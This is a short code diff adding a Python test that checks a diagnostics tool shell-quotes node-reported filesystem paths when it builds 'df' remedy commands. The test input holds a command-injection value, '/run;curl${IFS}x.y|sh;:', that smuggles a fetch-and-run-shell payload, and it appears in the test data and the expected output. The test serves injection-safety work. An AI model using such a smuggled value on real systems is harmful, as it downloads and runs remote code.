@@ -180,3 +180,13 @@ def test_a_lease(sandbox, made, codes):
     stale = [finding for finding in report.findings if finding.code.startswith("ipam/")]
     assert [finding.code for finding in stale] == codes
     assert all("rm /run/x/kind/10.0.0.5" in (finding.remedy or "") for finding in stale)
+
+
+def test_a_place_in_a_remedy_is_quoted():
+    """It is what the node says, and could be a command."""
+    (full,) = [
+        each
+        for each in inspect_capture(node(cni="", filesystems=" /run;curl${IFS}x.y|sh;: 10 0 10 5"), "-").findings
+        if each.code == "disk/full"
+    ]
+    assert full.remedy == "on the node: df -h '/run;curl${IFS}x.y|sh;:'; df -i '/run;curl${IFS}x.y|sh;:'"
